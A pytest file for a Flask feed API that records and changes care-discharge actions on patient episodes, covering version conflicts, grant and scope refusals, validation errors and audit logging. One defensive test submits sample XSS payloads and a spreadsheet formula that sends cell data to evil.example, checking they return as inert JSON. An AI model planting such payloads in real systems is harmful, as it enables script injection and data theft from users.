"""The actions on people through the push API (Flask's test client): a source with the
``actions`` kind records, reads, changes and reads the history of the actions on its own
episodes, a hub lead's too; a change on an old version is refused (409, who and when) and writes
nothing; a source without the grant, or on another source's, the administrator's or an
out-of-scope episode, is refused (403) and nothing is written; bad values get 422 with the
reason; hostile text comes back as the same JSON string; every read, write and refusal is in the
audit log with the source named."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import jsonschema
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine, select

from dashboard.actions_api import add_action_routes
from dashboard.app_factory import create_app
from dashboard.clock import LONDON, FixedClock
from dashboard.config import Settings
from dashboard.feeds_api import feeds_blueprint
from dashboard.vocabulary import ACTION_MAX_BYTES
from data_access.access import load_scope
from data_access.actions import actions_in_area, change_action, record_action
from data_access.audit import recent_events
from data_access.models import PersonAction, PersonActionChange
from data_access.ownership import GrantChange, grant, revoke
from tests.accounts import add_user
from tests.builders import (
    GEOGRAPHY,
    TODAY_AT,
    TODAY_EPISODES,
    checked_area,
    feed_source,
    load_files,
)
from tests.test_feeds_api import episode
from tests.test_openapi import schema_of

A, B, NO_GRANT = "Ward tracker A", "Ward tracker B", "Capacity return"
LATER = datetime(2026, 11, 25, 9, 0, tzinfo=LONDON)
STEP = {"kind": "package_sourced", "detail": "Ask the agency about a morning call",
        "owner_team": "Place one reablement", "due_at": "2026-11-25T17:00", "status": "open"}


@dataclass
class Answer:
    status: int
    body: Any
    content_type: str
    headers: dict[str, str]


@dataclass
class Api:
    client: FlaskClient
    engine: Engine
    tokens: dict[str, str]

    def call(self, method: str, path: str, body: Any = None, *, source: str | None = A,
             raw: bytes | None = None, content_type: str = "application/json") -> Answer:
        headers = {"Content-Type": content_type}
        if source is not None:
            headers["Authorization"] = f"Bearer {self.tokens.get(source, source)}"
        data = raw if raw is not None else None if body is None else json.dumps(body).encode()
        response = self.client.open(path, method=method, data=data, headers=headers)
        return Answer(response.status_code, json.loads(response.get_data(as_text=True)),
                      response.content_type, dict(response.headers))

    def record(self, episode_id: str, source: str | None = A, **changes: Any) -> Answer:
        return self.call("POST", "/api/v1/actions",
                         {"episode_id": episode_id, **STEP, **changes}, source=source)

    def actions(self, episode_id: str, source: str | None = A) -> Answer:
        return self.call("GET", f"/api/v1/actions?episode_id={episode_id}", source=source)

    def change(self, action_id: int, version: int, source: str | None = A,
               **changes: Any) -> Answer:
        return self.call("PUT", f"/api/v1/actions/{action_id}",
                         {**STEP, **changes, "version": version}, source=source)

    def history(self, action_id: int, source: str | None = A) -> Answer:
        return self.call("GET", f"/api/v1/actions/{action_id}/history", source=source)


@pytest.fixture
def api(engine: Engine, database_url: str, tmp_path) -> Api:  # type: ignore[no-untyped-def]
    """The test system, the Today episodes loaded by the administrator; sources A and B may send
    episodes and actions for the whole system (A has sent W1 and W2, B has sent W3); a third
    source may send capacity only."""
    assert load_files(engine, tmp_path / "admin", {**GEOGRAPHY,
                                                   "episodes.csv": TODAY_EPISODES}).loaded
    settings = Settings(database_url=database_url, clock=FixedClock(TODAY_AT))
    tokens = {name: feed_source(engine, name, TODAY_AT, kinds=kinds).token for name, kinds in
              ((A, ("episodes", "actions")), (B, ("episodes", "actions")),
               (NO_GRANT, ("capacity",)))}
    found = Api(create_app(settings, engine).server.test_client(), engine, tokens)
    for source, episodes in ((A, ["W1", "W2"]), (B, ["W3"])):
        sent = found.call("POST", "/api/v1/feeds/episodes", [episode(e) for e in episodes],
                          source=source)
        assert sent.status == 200 and sent.body["loaded"], sent.body
    return found


def described(answer: Answer, schema: str) -> Answer:
    """The answer, checked against its schema in docs/openapi.json."""
    jsonschema.Draft202012Validator(schema_of(schema)).validate(answer.body)
    return answer


def stored_actions(engine: Engine) -> list[list[tuple[Any, ...]]]:
    with engine.connect() as connection:
        return [[tuple(row) for row in connection.execute(
            select(table).order_by(*table.primary_key))]
            for table in (PersonAction.__table__, PersonActionChange.__table__)]


def test_a_source_records_reads_changes_and_reads_the_history_of_an_action(api: Api) -> None:
    made = described(api.record("W1"), "ActionWritten")
    assert made.status == 201 and made.content_type == "application/json"
    action_id = made.body["id"]
    assert made.body == {"id": action_id, "episode_id": "W1", "version": 1}

    shown = described(api.actions("W1"), "Actions")
    assert shown.status == 200
    assert shown.body == {"episode_id": "W1", "actions": [{
        "id": action_id, "episode_id": "W1", **STEP, "blocked_reason": "",
        # 17:00 in London on 25 November is 17:00 UTC (no summer time)
        "due_at": "2026-11-25T17:00:00+00:00", "version": 1,
        "created_at": "2026-11-25T08:30:00+00:00", "created_by": A,
        "changed_at": "2026-11-25T08:30:00+00:00", "changed_by": A}]}
    assert api.actions("W2").body["actions"] == []  # the other person's: none

    changed = api.change(action_id, 1, status="blocked", blocked_reason="No carer until Monday")
    assert (changed.status, changed.body) == (200, {"id": action_id, "version": 2})
    (now,) = api.actions("W1").body["actions"]
    assert (now["version"], now["status"], now["blocked_reason"]) == \
        (2, "blocked", "No carer until Monday")

    history = described(api.history(action_id), "ActionHistory")
    assert history.status == 200 and history.body["action_id"] == action_id
    first, second = history.body["versions"]
    assert (first["version"], first["changed_by"], first["before"]) == (1, A, None)
    assert first["after"] == {**STEP, "blocked_reason": ""}  # due_at: London time, as given
    assert second["before"] == first["after"]
    assert second["after"] == {**STEP, "status": "blocked",
                               "blocked_reason": "No carer until Monday"}
    assert second["changed_at"] == "2026-11-25T08:30:00+00:00"


def test_a_source_may_change_a_hub_leads_action_on_its_own_episode_and_she_sees_it(
        api: Api) -> None:
    """The action belongs to the person: the source of the person's episode changes an action
    a hub lead recorded (on the version it read), and the hub lead reads the change."""
    ana = load_scope(api.engine, add_user(api.engine, "hub_lead", ("D1",), "ana"))
    place = checked_area(api.engine, ana, "D1")
    action_id = record_action(api.engine, ana, place, "W1", STEP, TODAY_AT)
    (read,) = api.actions("W1").body["actions"]
    assert (read["id"], read["created_by"]) == (action_id, "ana")
    assert api.change(action_id, read["version"], status="done").body["version"] == 2
    (seen,) = actions_in_area(api.engine, ana, place, LATER).itertuples()
    assert (seen.status, seen.version, seen.changed_by) == ("done", 2, A)


def test_a_change_on_an_old_version_is_refused_with_who_and_when_and_writes_nothing(
        api: Api) -> None:
    ana = load_scope(api.engine, add_user(api.engine, "hub_lead", ("D1",), "ana"))
    action_id = api.record("W1").body["id"]
    change_action(api.engine, ana, checked_area(api.engine, ana, "D1"), action_id, 1,
                  {**STEP, "owner_team": "Hospital discharge team"}, LATER)
    before = stored_actions(api.engine)

    late = described(api.change(action_id, 1, status="done"), "VersionConflict")
    assert late.status == 409
    assert late.body == {
        "error": "ana changed this action at 09:00 on 25 Nov (version 2) after you opened it "
                 "(version 1). Nothing was saved: read their change, then make yours again.",
        "action_id": action_id, "your_version": 1, "version": 2, "changed_by": "ana",
        "changed_at": "2026-11-25T09:00:00+00:00"}
    assert stored_actions(api.engine) == before
    # On the version read, the same change goes through.
    assert api.change(action_id, 2, status="done").status == 200


def test_a_source_without_the_actions_grant_reads_and_writes_nothing(api: Api) -> None:
    action_id = api.record("W1").body["id"]
    before = stored_actions(api.engine)
    not_granted = ("the kind actions is not granted to source 'Capacity return' (an "
                   "administrator grants it: python -m dashboard source grant) (nothing was "
                   "read or written)")
    for answer in (api.record("W1", source=NO_GRANT), api.actions("W1", source=NO_GRANT),
                   api.change(action_id, 1, source=NO_GRANT, status="done"),
                   api.history(action_id, source=NO_GRANT)):
        assert (answer.status, answer.body) == (403, {"error": not_granted})
    assert stored_actions(api.engine) == before
    refused = recent_events(api.engine, action="refused", username=NO_GRANT)
    assert len(refused) == 4 and set(refused.role) == {"feed"}
    assert list(refused.scope)[::-1] == ["actions on episode W1"] * 2 + [
        f"action {action_id}", f"history of action {action_id}"]
    assert recent_events(api.engine, action="view_people", username=NO_GRANT).empty


def test_another_sources_the_administrators_and_an_out_of_scope_episode_are_refused(
        api: Api) -> None:
    mine = api.record("W1").body["id"]
    before = stored_actions(api.engine)
    elsewhere = ": a source reads and writes the actions only of its own episodes, at sites " \
                "in its scope (nothing was read or written)"
    of_a = "episode W1 belongs to source 'Ward tracker A'" + elsewhere
    for answer in (api.record("W1", source=B), api.actions("W1", source=B),
                   api.change(mine, 1, source=B, status="done"), api.history(mine, source=B)):
        assert (answer.status, answer.body) == (403, {"error": of_a})
    admins = ("episode E1 was loaded by the administrator (python -m dashboard load); no feed "
              "may change it" + elsewhere)
    for answer in (api.record("E1"), api.actions("E1")):
        assert (answer.status, answer.body) == (403, {"error": admins})
    # A's own episode, at a site no longer in its scope (its grant narrowed to place two).
    revoke(api.engine, A, GrantChange(areas=("ICB1",)))
    grant(api.engine, A, GrantChange(areas=("D2",)))
    out_of_scope = ("site S1 is not among the sites granted to 'Ward tracker A', nor inside "
                    "its areas" + elsewhere)
    for answer in (api.record("W2"), api.actions("W1"), api.change(mine, 1, status="done"),
                   api.history(mine)):
        assert (answer.status, answer.body) == (403, {"error": out_of_scope})
    assert stored_actions(api.engine) == before
    assert len(recent_events(api.engine, action="refused", username=B)) == 4
    assert len(recent_events(api.engine, action="refused", username=A)) == 6


def test_without_a_live_token_the_answer_is_401_and_nothing_is_written(api: Api) -> None:
    for source in (None, "icd_not-a-token"):
        for answer in (api.record("W1", source=source), api.actions("W1", source=source),
                       api.history(1, source=source)):
            assert answer.status == 401 and "token" in answer.body["error"]
            assert answer.headers["WWW-Authenticate"] == 'Bearer realm="feeds"'
    assert stored_actions(api.engine) == [[], []]


@pytest.mark.parametrize(("change", "status", "reason"), [
    ({"kind": "teleport"}, 422, "the kind of step must be one of assessment, "),
    ({"kind": ["assessment"]}, 422, "the kind of step must be one of"),
    ({"status": "stuck"}, 422, "the status must be one of open, done, blocked; nothing was "
                               "written"),
    ({"status": "blocked"}, 422, "a blocked action needs the reason it is blocked"),
    ({"detail": "x" * 501}, 422, "detail is longer than 500 characters"),
    ({"detail": 7}, 422, "detail must be text"),
    ({"owner_team": "  "}, 422, "an action needs an owner"),
    ({"due_at": "tomorrow"}, 422, "due_at: 'tomorrow' is not an ISO 8601 timestamp"),
    ({"due_at": 20261125}, 422, "due_at must be a timestamp written as text"),
    ({"due_at": None}, 422, "an action needs a due time"),
    ({"detail": "NUL \x00 here"}, 422, "detail holds a character text cannot hold"),
    ({"detail": "half \ud800 a pair"}, 422, "detail holds a character text cannot hold"),
    ({"Detail": "misspelt"}, 422, "unknown field(s): 'Detail'; the fields are episode_id, kind"),
    ({"episode_id": 12}, 422, "episode_id must be text"),
    ({"episode_id": "W\x009"}, 404, "there is no episode 'W\\\\x009'"),
    ({"episode_id": "W\udc009"}, 404, "there is no episode 'W\\\\udc009'"),
    ({"episode_id": "NOBODY"}, 404, "there is no episode 'NOBODY'"),
])
def test_a_bad_action_is_refused_with_the_reason_and_nothing_is_written(
        api: Api, change: dict[str, Any], status: int, reason: str) -> None:
    answer = api.call("POST", "/api/v1/actions", {"episode_id": "W1", **STEP, **change})
    assert answer.status == status and reason in answer.body["error"], answer.body
    assert stored_actions(api.engine) == [[], []]


def test_a_bad_change_or_body_is_refused_in_words_and_nothing_is_written(api: Api) -> None:
    action_id = api.record("W1").body["id"]
    before = stored_actions(api.engine)
    path = f"/api/v1/actions/{action_id}"
    cases = [
        (api.call("PUT", path, STEP), 422, "version: send the version of the action you read"),
        (api.call("PUT", path, {**STEP, "version": "1"}), 422, "version: send the version"),
        (api.call("PUT", path, {**STEP, "version": True}), 422, "version: send the version"),
        (api.call("PUT", path, {**STEP, "version": 2**40}), 422, "version: send the version"),
        (api.change(action_id, 1, kind="teleport"), 422, "the kind of step must be one of"),
        (api.change(999_999, 1), 404, "there is no action 999999"),
        (api.history(999_999), 404, "there is no action 999999"),
        (api.call("GET", "/api/v1/actions/99999999999/history"), 404, "not found"),
        (api.call("GET", "/api/v1/actions/x/history"), 404, "no such address"),
        (api.call("GET", "/api/v1/actions"), 422, "name the person: /api/v1/actions?episode_id="),
        (api.call("GET", "/api/v1/actions?episode_id=%00"), 404, "there is no episode '\\\\x00'"),
        (api.call("PUT", path, raw=b"{not json"), 400, "the body is not valid JSON"),
        (api.call("PUT", path, [STEP]), 400, "the body must be a JSON object"),
        (api.call("PUT", path, raw=b"\xff\xfe"), 400, "the body is not UTF-8 text"),
        (api.call("PUT", path, raw=b"[" * 50_000 + b"]" * 50_000), 413,
         f"the body is larger than {ACTION_MAX_BYTES:,} bytes"),
        (api.call("PUT", path, {**STEP, "version": 1}, content_type="text/csv"), 415,
         "send application/json"),
        (api.call("DELETE", path), 404, "no such address in the feed API"),
    ]
    for answer, status, reason in cases:
        assert answer.status == status and reason in answer.body["error"], answer.body
        assert answer.content_type == "application/json"
    assert stored_actions(api.engine) == before


def test_hostile_text_comes_back_verbatim_as_a_json_string(api: Api) -> None:
    hostile = {"detail": "<script>alert(1)</script>",
               "owner_team": '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
               "status": "blocked", "blocked_reason": "<img src=x onerror=alert(1)> & \u202e"}
    action_id = api.record("W1", **hostile).body["id"]
    answer = api.actions("W1")
    assert answer.content_type == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    (shown,) = answer.body["actions"]
    assert {name: shown[name] for name in hostile} == hostile
    (kept,) = api.history(action_id).body["versions"]
    assert {name: kept["after"][name] for name in hostile} == hostile


def test_every_read_and_write_is_audited_with_the_source_named(api: Api) -> None:
    action_id = api.record("W1").body["id"]
    api.actions("W1")
    api.change(action_id, 1, status="done")
    api.history(action_id)
    events = recent_events(api.engine, username=A)
    assert [(e.action, e.role, e.scope, e.rows) for e in events.itertuples()][::-1] == [
        ("action_recorded", "feed", "episode W1", 1),
        ("view_people", "feed", "actions on episode W1", 1),
        ("action_changed", "feed", "episode W1", 1),
        ("view_people", "feed", f"history of action {action_id}", 2),
    ]
    assert events.detail.iloc[-1] == f"action {action_id}: package_sourced, open"


def test_a_write_makes_open_pages_redraw_and_a_refused_one_does_not(api: Api) -> None:
    """The blueprint's ``on_change`` (the app forgets its data version) after every write."""
    context = api.client.application.extensions["dashboard_context"]
    calls: list[str] = []
    server = Flask(__name__)
    blueprint = feeds_blueprint(context, Settings(), lambda: calls.append("delivery"))
    add_action_routes(blueprint, context, lambda: calls.append("action"))
    server.register_blueprint(blueprint)
    bare = Api(server.test_client(), api.engine, api.tokens)
    action_id = bare.record("W1").body["id"]
    assert calls == ["action"]
    assert bare.change(action_id, 1, status="done").status == 200
    assert calls == ["action", "action"]
    assert bare.change(action_id, 1).status == 409 and bare.record("W1", kind="x").status == 422
    assert bare.actions("W1").status == 200
    assert calls == ["action", "action"]
